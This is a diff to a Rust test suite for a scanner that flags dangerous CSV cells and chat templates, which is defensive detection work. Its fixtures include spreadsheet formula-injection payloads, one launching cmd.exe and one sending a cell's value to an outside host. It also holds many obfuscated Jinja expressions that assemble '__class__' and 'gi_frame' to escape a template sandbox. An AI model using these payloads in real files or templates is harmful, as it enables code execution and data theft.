@@ -56,7 +56,6 @@ fn graphs_that_are_written_as_text_and_tables() {
         "a,b\n1,=msexcel|'\\..\\cmd.exe /c ver'!A1\n",
         "a,b\n1,=other|'\\..\\x /c ver'!A1\n",
         "a;b\n+IMPORTXML(\"https://x.example/?v=\"&A1;\"//a\");2\n",
-        "a;b\n=HYPERLINK(\"https://x.example/?v=\"&A1;\"//a\");2\n",
     ] {
         let told = table(text);
         assert!(told.len() == 1 && told.iter().all(|cell| cell.ends_with("@line 2")), "{text}: {told:?}");
@@ -107,4 +106,59 @@ fn constants_of_a_graph_that_lead_somewhere() {
     ] {
         assert!(graph(operator, honest).is_empty(), "{operator} {honest}");
     }
+}
+
+#[test]
+fn names_that_a_template_computes_are_read() {
+    for made in [
+        "x['_' * 2 ~ 'class' ~ '_' * 2]",
+        "x['zzclasszz'|replace('z', '_')]",
+        "x['zzclasszz'.replace('z', '_')]",
+        "x['__CLASS__'|lower]",
+        "x['__CLASS__'.lower()]",
+        "x['__ssalc__'|reverse]",
+        "x['__ssalc__'[::-1]]",
+        "x['ab__class__cd'[2:-2]]",
+        "x[['__cl', 'ass__']|join]",
+        "x[''.join(['__cl', 'ass__'])]",
+        "x['__cl,ass__'.split(',')|join]",
+        "x['-'.join('__cl ass__'.split()).replace('-', '')]",
+        "x['%s%s' % ('__cl', 'ass__')]",
+        "x['%sclass%s'|format('__', '__')]",
+        "x['%c%cclass%c%c'|format(95, 95, 95, 95)]",
+        "x[{'k': '__class__'[:7] ~ '__'}['k']]",
+        "x['  __class__  '|trim]",
+        "x['__classcl__'|replace('cl__', '__')]",
+    ] {
+        let found = template(&format!("{{{{ {made} }}}}"), "artifact.chat_template.unsafe");
+        assert!(found.contains(&"dunder:__class__".to_owned()), "{made}: {found:?}");
+    }
+    for set in [
+        "{% set a = '__CL'|lower %}{% set b = a ~ 'ass__' %}{{ x[b] }}",
+        "{% set ns = namespace(a='__cl') %}{% set ns.b = ns.a ~ 'ass__' %}{{ x[ns.b] }}",
+        "{% set a %}__cl{% endset %}{{ x[a ~ 'ass__'] }}",
+        "{% with a = '__cl' %}{{ x[a ~ 'ass__'] }}{% endwith %}",
+        "{% set a = ['__cl', 'ass__'] %}{{ x[a[0] ~ a[1]] }}",
+        "{% set f = 'gi_' %}{{ x[f ~ 'frame'] }}",
+    ] {
+        let found = template(set, "artifact.chat_template.unsafe");
+        assert!(found.iter().any(|item| item.starts_with("dunder:")), "{set}: {found:?}");
+    }
+    for honest in [
+        "{{ '_' * 40 }}{{ '=' * 20 }}",
+        "{% set role = message['role']|upper %}{{ '<|' ~ role.lower()[:5] ~ '|>' }}",
+        "{{ '%s: %d' % ('tools', 3) }}{{ ', '.join(['a', 'b'])|title }}",
+        "{% set a = '__init' %}{{ a ~ ' is a word' }}",
+    ] {
+        assert!(template(honest, "artifact.chat_template.unsafe").is_empty(), "{honest}");
+    }
+}
+
+/// What costs more than any honest template is told instead of followed.
+#[test]
+fn a_template_that_computes_without_end_is_told() {
+    let mut text = String::from("{% set a = 'x' * 4000 %}");
+    text.push_str(&"{% set b = a|upper %}".repeat(20_000));
+    let found = template(&text, "artifact.chat_template.unsafe");
+    assert_eq!(found, ["call:computed"]);
 }
